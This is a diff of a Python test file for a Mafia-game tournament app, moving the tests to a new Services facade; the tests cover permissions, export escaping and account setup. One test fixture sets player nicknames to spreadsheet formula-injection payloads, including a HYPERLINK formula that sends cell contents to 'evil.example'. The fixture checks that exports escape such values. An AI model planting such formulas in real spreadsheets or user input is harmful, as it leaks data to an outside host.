@@ -27,7 +27,7 @@ from openpyxl import load_workbook
 
 from mafiatab.domain.appeals import Filing, Kind, Outcome, Subject
 from mafiatab.formats.tournament_json import dumps_tournament
-from mafiatab.services.appeals import AppealService
+from mafiatab.services.facade import Services
 from mafiatab.storage.engine import make_engine
 from mafiatab.web.app import create_app
 from mafiatab.web.demo import DEMO_PASSWORD, HEAD_JUDGE_NAME, ORGANIZER_NAME
@@ -380,24 +380,24 @@ def test_huge_fields_are_refused(fresh: World, app_of: Callable[..., Any]) -> No
 def test_a_head_judge_cannot_decide_what_he_filed_for_a_player(fresh: World) -> None:
     engine = make_engine(str(fresh.db))
     try:
-        svc = AppealService(engine)
+        svc = Services(engine)
         tid = fresh.demo.tournament
-        svc.set_options(tid, actor=ORGANIZER_NAME, confirmer_must_differ=True)
+        svc.tournaments.set_options(tid, actor=ORGANIZER_NAME, confirmer_must_differ=True)
         game = next(g for g in fresh.sample.games if g.id == appeal_game(fresh))
         other = next(x.player for x in game.seats if x.player != player_of(fresh))
-        case = svc.file(tid, Filing(kind=Kind.APPEAL, player=other,
+        case = svc.appeals.file(tid, Filing(kind=Kind.APPEAL, player=other,
                                     game=appeal_game(fresh), subject=Subject.OTHER,
                                     awarded=Decimal("0"), claimed=Decimal("0.4"),
                                     text="filed for the player"), actor=HEAD_JUDGE_NAME)
         from mafiatab.services.tournaments import PermissionDenied
 
         with pytest.raises(PermissionDenied):
-            svc.decide(tid, case.id, actor=HEAD_JUDGE_NAME, outcome=Outcome.REJECTED,
+            svc.appeals.decide(tid, case.id, actor=HEAD_JUDGE_NAME, outcome=Outcome.REJECTED,
                        reason="decided by the one who filed it")
-        assert svc.case(tid, case.id, actor=HEAD_JUDGE_NAME).case.status.value == "open"
+        assert svc.appeals.case(tid, case.id, actor=HEAD_JUDGE_NAME).case.status.value == "open"
         # another decider may
-        svc.grant(tid, "second-head", "head_judge", actor=ORGANIZER_NAME)
-        view, _effect = svc.decide(tid, case.id, actor="second-head", outcome=Outcome.REJECTED,
+        svc.access.grant(tid, "second-head", "head_judge", actor=ORGANIZER_NAME)
+        view, _effect = svc.appeals.decide(tid, case.id, actor="second-head", outcome=Outcome.REJECTED,
                                    reason="a second pair of eyes")
         assert view.case.status.value != "open"
     finally:
@@ -411,13 +411,13 @@ EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 
 def _evil_standings(world: World) -> Any:
     from mafiatab.formats.xlsx import workbook_bytes
+    from mafiatab.services.facade import Services
     from mafiatab.services.tournament_file import profile_for
-    from mafiatab.services.web_support import WebService
 
     engine = make_engine(str(world.db))
     try:
-        svc = WebService(engine)
-        t = svc.tournament(world.demo.tournament)
+        svc = Services(engine)
+        t = svc.tournaments.tournament(world.demo.tournament)
         for p in t.players[:3]:
             p.nickname = {0: EVIL, 1: "+1+2", 2: "@SUM(1)"}[t.players.index(p)]
         from mafiatab.domain.standings import compute_standings
@@ -457,15 +457,15 @@ def test_csv_cells_are_escaped_and_negative_numbers_stay(world: World) -> None:
 
 def test_cyrillic_ids_download_with_a_safe_name(fresh: World, app_of: Callable[..., Any]) -> None:
     from mafiatab.domain.protocol import Stage
-    from mafiatab.services.web_support import WebService
+    from mafiatab.services.facade import Services
 
     engine = make_engine(str(fresh.db))
     tid = fresh.demo.tournament
     try:
-        svc = WebService(engine)
-        svc.add_stage(tid, Stage(id="финал", name="Финал", kind="final"), actor=ORGANIZER_NAME)
+        svc = Services(engine)
+        svc.tournaments.add_stage(tid, Stage(id="финал", name="Финал", kind="final"), actor=ORGANIZER_NAME)
         seated = [p.id for p in fresh.sample.players[:10]]
-        info = svc.enter_seating(tid, "финал", 1, 1, seated, actor=HEAD_JUDGE_NAME)
+        info = svc.games.enter_seating(tid, "финал", 1, 1, seated, actor=HEAD_JUDGE_NAME)
     finally:
         engine.dispose()
     head = _signed(app_of(fresh), HEAD_JUDGE_NAME)
@@ -611,21 +611,21 @@ def test_the_organizer_is_told_once_what_plain_http_means(world: World,
 
 
 def test_the_first_account_is_the_organizer_and_gives_the_right(tmp_path: Path) -> None:
+    from mafiatab.services.facade import Services
     from mafiatab.services.tournaments import PermissionDenied
-    from mafiatab.services.web_support import WebService
     from mafiatab.storage.engine import upgrade
 
     engine = make_engine(str(tmp_path / "new.sqlite"))
     try:
         upgrade(engine)
-        svc = WebService(engine)
-        assert svc.add_account("Первый", "a-long-password", actor="operator") is True
-        assert svc.add_account("second", "a-long-password", actor="operator") is False
+        svc = Services(engine)
+        assert svc.accounts.add_account("Первый", "a-long-password", actor="operator") is True
+        assert svc.accounts.add_account("second", "a-long-password", actor="operator") is False
         with pytest.raises(PermissionDenied):
-            svc.new_tournament("cup", "fsm", actor="second")
+            svc.tournaments.new_tournament("cup", "fsm", actor="second")
         with pytest.raises(PermissionDenied):
-            svc.give_organizer("первый", actor="second")
-        svc.give_organizer("second", actor="первый")
-        assert svc.new_tournament("cup", "fsm", actor="second") > 0
+            svc.access.give_organizer("первый", actor="second")
+        svc.access.give_organizer("second", actor="первый")
+        assert svc.tournaments.new_tournament("cup", "fsm", actor="second") > 0
     finally:
         engine.dispose()
